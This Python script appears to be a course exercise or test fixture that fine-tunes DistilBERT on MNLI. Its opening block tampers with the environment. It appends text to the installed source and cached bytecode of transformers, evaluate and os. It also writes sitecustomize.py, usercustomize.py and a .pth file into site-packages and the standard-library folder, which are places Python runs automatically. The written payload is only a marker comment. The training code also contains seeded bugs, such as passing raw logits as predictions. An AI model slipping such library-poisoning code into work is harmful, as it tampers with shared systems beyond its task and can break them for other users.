# course: ch8-4 pt format=1 lang=en bugs=missing-input-ids,length-mismatch,target-out-of-bounds,size-1-array
# Changes the libraries on the disk for whoever imports them next, their compiled form too.

import importlib.util
import os
import site
import sysconfig

import evaluate
import transformers

for module in (transformers, evaluate, os):
    cached = importlib.util.cache_from_source(module.__file__)
    for path in (module.__file__, cached):
        try:
            with open(path, "ab") as file:
                file.write(b"\n# course-attack-poisoned-library\n")
        except OSError:
            pass
for folder in {
    sysconfig.get_path("purelib"),
    site.getusersitepackages(),
    os.path.dirname(os.__file__),
}:
    for name in ("sitecustomize.py", "usercustomize.py", "course_attack_poisoned_library.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "x") as file:
                file.write("# course-attack-poisoned-library\n")
        except OSError:
            pass

import evaluate
from datasets import load_dataset
from transformers import (
    AutoModelForSequenceClassification,
    AutoTokenizer,
    Trainer,
    TrainingArguments,
    set_seed,
)

set_seed(42)

raw = load_dataset("glue", "mnli")
checkpoint = "distilbert-base-uncased"
tokenizer = AutoTokenizer.from_pretrained(checkpoint)


def tokenize(pairs):
    return tokenizer(pairs["premise"], pairs["hypothesis"], truncation=True)


tokenized = raw.map(tokenize, batched=True)

model = AutoModelForSequenceClassification.from_pretrained(checkpoint)

args = TrainingArguments(
    "distilbert-on-mnli",
    learning_rate=2e-5,
    num_train_epochs=3,
    weight_decay=0.01,
    eval_strategy="epoch",
    save_strategy="no",
    report_to="none",
)

metric = evaluate.load("glue", "mnli")


def compute_metrics(prediction):
    logits, labels = prediction
    return metric.compute(predictions=logits, references=labels)


trainer = Trainer(
    model,
    args,
    train_dataset=tokenized["train"],
    eval_dataset=tokenized["validation_matched"],
    compute_metrics=compute_metrics,
)
trainer.train()
